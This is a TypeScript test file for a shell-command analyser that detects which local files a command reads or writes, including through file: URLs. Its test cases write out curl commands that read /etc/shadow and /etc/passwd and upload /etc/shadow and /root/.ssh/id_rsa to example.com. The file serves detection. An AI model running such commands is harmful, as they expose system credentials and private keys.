import { describe, expect, it } from 'vitest';
import { parseScript } from '../../src/parse/index.js';
import { fileUrlPaths } from '../../src/resolve/file-urls.js';
import { pathWords } from '../../src/resolve/path-words.js';

/** The path words of a one-command script as "access text". */
const words = (script: string): string[] => pathWords(parseScript(script).commands[0]!).map((w) => `${w.access} ${w.text}`);

describe('a file: URL names the local path after its host', () => {
  it.each<[string, string[]]>([
    ['file:///etc/passwd', ['/etc/passwd']],
    ['FILE:///etc/shadow', ['/etc/shadow']],
    ['file://localhost/etc/passwd', ['/etc/passwd']],
    ['file:/etc/passwd', ['/etc/passwd']],
    ['file:///%65tc/passwd', ['/etc/passwd']],
    ['file:///tmp/../etc/passwd', ['/tmp/../etc/passwd', '/etc/passwd']],
    ['file:///tmp/x?/../../etc/passwd', ['/tmp/x?/../../etc/passwd', '/etc/passwd', '/tmp/x']],
    ['file:../lib', ['../lib']],
    ['pkg @ file:///srv/pkg', ['/srv/pkg']],
    ['x@file:../lib', ['../lib']],
    ['file:///etc/passwd%00.txt', ['\u0000']],
  ])('%s', (text, expected) => {
    expect(fileUrlPaths(text)).toEqual(expected);
  });

  it.each([['https://example.com/etc/passwd'], ['/etc/passwd'], ['profile:///x'], ['see file: notes']])('%s is no file: URL', (text) => {
    expect(fileUrlPaths(text)).toEqual([]);
  });
});

describe('programs given a file: URL read (or write) the file it names', () => {
  it.each<[string, string[]]>([
    ['curl file:///etc/passwd', ['read /etc/passwd']],
    ['curl -s -o shadow.txt file:///etc/shadow', ['write shadow.txt', 'read /etc/shadow']],
    ['curl --url=file:///etc/passwd', ['read /etc/passwd']],
    ['curl -T notes.md file:///etc/motd', ['read notes.md', 'write /etc/motd']],
    ['git clone file:///srv/repo.git repo', ['read /srv/repo.git']],
    ['ffmpeg -i file:/etc/passwd out.mp4', ['read /etc/passwd']],
  ])('%s', (script, expected) => {
    expect(words(script)).toEqual(expected);
  });

  it.each([['grep -rn "file:///" src'], ['echo file:///etc/passwd'], ['git commit -m "file: update docs"'], ['curl -s https://example.com/etc/passwd']])(
    'a file: URL as data, or none: %s',
    (script) => {
      expect(words(script).filter((w) => w.includes('/etc') || w.includes('file:'))).toEqual([]);
    },
  );
});

describe('a file named inside a form field or data value', () => {
  it.each<[string, string[]]>([
    ["curl -F 'f=</etc/shadow' https://example.com/u", ['read /etc/shadow']],
    ["curl -F 'a=</root/.ssh/id_rsa;type=text/plain' https://example.com/", ['read /root/.ssh/id_rsa']],
    ["curl -F 'f=@/etc/passwd;filename=x.txt' https://example.com/", ['read /etc/passwd']],
    ["curl --data-urlencode 'x@/etc/shadow' https://example.com/", ['read /etc/shadow']],
    ["curl --variable 'x@/etc/shadow' --expand-data '{{x}}' https://example.com/", ['read /etc/shadow']],
    ['http POST example.com f@/etc/shadow', ['read /etc/shadow']],
  ])('%s', (script, expected) => {
    expect(words(script)).toEqual(expected);
  });

  it.each([['git clone git@github.com:org/repo.git'], ['npm install left-pad@1.3.0'], ['pip install pkg@git+https://x/y'], ['ssh user@example.com ls'], ['git log --author=me@example.com']])(
    'names no file in %s',
    (script) => {
      expect(words(script).filter((w) => w.includes('/') && !w.includes('repo.git'))).toEqual([]);
    },
  );
});
